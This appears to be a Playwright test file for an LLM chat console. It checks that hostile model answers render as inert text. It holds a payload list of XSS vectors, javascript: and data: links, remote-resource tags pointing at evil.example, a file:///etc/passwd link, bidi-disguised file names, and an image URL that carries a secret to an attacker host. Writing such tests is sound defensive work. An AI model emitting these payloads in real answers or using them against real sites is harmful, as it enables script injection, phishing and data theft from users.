import { seedComparison } from '../seed-comparison.mjs';
import { ComparePage } from './support/compare-page';
import { expect, test } from './support/console-test';
import * as wire from './support/fault-server';
import { watch, type Watch } from './support/watch';

test.use({ storageState: ({ connected }, use) => use(connected) });

const far = 'http://evil.example';
let watched: Watch;

test.beforeEach(async ({ page, baseURL, faults }) => {
  watched = await watch(page, [baseURL ?? '', faults.url, 'data:', 'blob:', 'about:blank']);
});

test.afterEach(async () => {
  expect(watched.requests).toEqual([]);
  expect(watched.dialogs).toEqual([]);
  expect(watched.navigations).toEqual([]);
  expect(await watched.inPage()).toEqual([]);
});

/** Each ends in a way that lets the word after it stand alone. */
const answers: Record<string, string> = {
  'scripts and handlers': `<script>alert(1)</script>
<img src=x onerror=alert(1)> <svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>
<details open ontoggle=alert(1)> <body onload=alert(1)> <input autofocus onfocus=alert(1)>`,
  'frames, forms, styles and bases': `<iframe src="${far}/f" srcdoc="<script>alert(1)</script>"></iframe>
<form action="${far}"><button>go</button></form> <base href="${far}"> <link rel=stylesheet href="${far}/c">
<style>@import url(${far}/i); body { background: url(${far}/b) }</style>
<meta http-equiv=refresh content="0;url=${far}"> <object data="${far}/o"></object> <embed src="${far}/e">`,
  'remote media': `![a](${far}/1.png) ![b][ref] [![c](${far}/2.png)](${far}/page)
<img src="${far}/3.png" srcset="${far}/4.png 2x"> <video poster="${far}/5.png" src="${far}/6"></video>
<picture><source srcset="${far}/7.png"></picture> ![d](//evil.example/8.png) ![e](data:image/svg+xml,<svg onload=alert(1)>)

[ref]: ${far}/9.png`,
  'links with other schemes': `[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) <javascript:alert(1)>
[d](vbscript:x) [e](data:text/html,<script>alert(1)</script>) [f](file:///etc/passwd) [g](blob:x)
[h](&#106;avascript:alert(1)) [i][ref] [j](//evil.example) [k](../settings/)

[ref]: javascript:alert(1)`,
  'formulas and code': `$\\href{javascript:alert(1)}{x}$ $\\includegraphics{${far}/1.png}$ $\\htmlStyle{background:url(${far})}{x}$

$$\\def\\a{\\a\\a}\\a$$ $$\\rule{99999em}{99999em}$$

\`\`\`html
<script>alert(1)</script><img src=x onerror=alert(1)>
\`\`\`

\`\`\`"><img/src=x/onerror=alert(1)>
code
\`\`\``,
  'markup in tables, lists, footnotes and titles': `| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |
|---|---|
| ![x](${far}/1.png) | <b onclick=alert(1)>b</b> |

- [x] <script>alert(1)</script>
- [b](${far} "\\" onmouseover=alert(1) \\"")

&lt;script&gt;alert(1)&lt;/script&gt; <!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>`,
};

test('Hostile answers are only text, at every moment of the stream', async ({ chat, faults }) => {
  await chat.open();
  for (const [name, markdown] of Object.entries(answers))
    await test.step(name, async () => {
      const whole = `${markdown}\n\nThe last word`;
      faults.reply = (response) => wire.streamAnswer(response, whole.match(/[^]{1,9}/g) ?? []);
      await chat.startNew();
      await chat.askToEnd('Question');
      await expect(chat.answer).toContainText('The last word');
    });
});

test('Hostile answers are only text in the cells of a comparison, in the table and in full view', async ({
  page,
  faults,
}) => {
  faults.reply = (response, { body }) => {
    const { messages } = JSON.parse(body);
    const whole = `${answers[messages.at(-1).content]}\n\nThe last word`;
    wire.streamAnswer(response, whole.match(/[^]{1,9}/g) ?? []);
  };
  const compare = new ComparePage(page);
  // Rows out of view are not drawn.
  await page.setViewportSize({ width: 1440, height: 2400 });
  await page.goto('settings/');
  const prompts = Object.keys(answers);
  const id = await seedComparison(page, { models: faults.models, prompts });
  await compare.open(`compare/?id=${id}`);
  await compare.run.click();
  await expect(page.getByText(`${prompts.length} cells answered`)).toBeAttached();
  for (const number of prompts.keys()) {
    await page.getByRole('button', { name: `Open row ${number + 1}` }).click();
    await expect(compare.answersOf('A')).toContainText('The last word');
    await page.getByRole('link', { name: 'All rows' }).click();
  }
});

test('Names, titles, tool calls and the hosts of links are text', async ({
  page,
  chat,
  faults,
}) => {
  await test.step('model ids and titles with markup and bidi marks', async () => {
    const id = '<img src=x onerror=alert(1)>\u202Egnp.exe';
    faults.models = [id];
    await chat.open();
    await expect(page.getByRole('combobox', { name: 'Model' })).toHaveValue(id);
    await page.getByRole('combobox', { name: 'Model' }).click();
    await expect(page.getByRole('option')).toContainText([id]);
    await page.keyboard.press('Escape');
    const title = '<b>bold</b> \u202Eevil';
    await chat.askToEnd(title);
    await expect(chat.conversations.getByRole('link')).toHaveText(title);
    await expect(chat.questions).toContainText(title);
    expect(JSON.parse(faults.chats[0]?.body ?? '')).toMatchObject({ model: id });
  });

  await chat.startNew();
  await test.step('a link shows its real host and opens apart from the console', async () => {
    faults.reply = (response) =>
      wire.streamAnswer(response, ['[https://bank.example](http://evil.example/login)']);
    await chat.askToEnd('Question');
    const link = chat.answer.getByRole('link');
    await expect(chat.answer).toContainText('evil.example');
    await expect(link).toHaveAttribute('rel', /noopener noreferrer/);
    await expect(link).toHaveAttribute('target', '_blank');
  });

  await chat.startNew();
  await test.step('a remote image is a link that names its host', async () => {
    faults.reply = (response) =>
      wire.streamAnswer(response, ['![A cat](http://evil.example/cat.png?q=secret)']);
    await chat.askToEnd('Question');
    await expect(chat.answer.getByRole('link')).toHaveAttribute(
      'href',
      'http://evil.example/cat.png?q=secret',
    );
    await expect(chat.answer).toContainText('evil.example');
  });

  await chat.startNew();
  await test.step('tool arguments, reasoning, citations and request ids', async () => {
    const markup = '<img src=x onerror=alert(1)>';
    faults.reply = (response) => {
      response.setHeader('x-request-id', `req_${markup}`);
      wire.openStream(response);
      const call = {
        index: 0,
        id: markup,
        function: { name: markup, arguments: `{"a":"${markup}"}` },
      };
      const annotation = {
        type: 'url_citation',
        url_citation: { url: 'javascript:alert(1)', title: markup },
      };
      response.end(
        wire.chunk({ reasoning: markup }) +
          wire.text('Answer') +
          wire.chunk({ annotations: [annotation] }) +
          wire.chunk({ tool_calls: [call] }, 'tool_calls') +
          wire.done,
      );
    };
    await chat.askToEnd('Question');
    await chat.answer.getByText('Reason').first().click();
    await expect(chat.answer.getByText(markup).first()).toBeVisible();
  });
});
